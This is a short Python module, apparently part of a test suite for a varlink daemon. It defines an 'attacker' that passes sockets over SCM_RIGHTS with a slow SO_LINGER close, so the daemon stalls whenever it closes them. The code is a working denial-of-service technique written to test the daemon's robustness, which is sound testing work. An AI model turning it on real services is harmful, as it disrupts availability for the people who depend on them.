"""An attacker that passes descriptors which take long to close."""

import array
import itertools
import socket
import struct
import time

from clients import Client, frame


def pass_descriptors(keep=0):
    """Passes sockets whose last close waits for seconds (SO_LINGER), in a call and left unread; beside `keep` connections."""
    def attack(daemon):
        def body(ready):
            kept = [Client(daemon) for _ in range(keep)]
            for client in kept:
                client.call("org.varlink.service.GetInfo")
            ready()
            server = socket.socket()
            server.bind(("127.0.0.1", 0))
            server.listen(64)
            for data in itertools.cycle((frame("Lights.List"), b'{"method":')):
                sender, receiver = lingering(server)
                try:
                    # At once, so that it is there before the connection is accepted.
                    with Client(daemon) as client:
                        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sender.fileno()]))]
                        client.socket.sendmsg([data], ancillary)
                        sender.close()
                        time.sleep(0.2)
                        receiver.detach()
                except OSError:
                    # It was not taken, and would keep the attacker waiting.
                    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    sender.close()
                    receiver.close()
        return body
    return attack


def lingering(server):
    """Both ends of a connection, of which the first has much to send and waits for that when it is closed."""
    sender = socket.create_connection(server.getsockname())
    receiver, _ = server.accept()
    sender.setblocking(False)
    try:
        while sender.send(b"x" * 65536):
            pass
    except BlockingIOError:
        pass
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 12))
    sender.setblocking(True)
    return sender, receiver
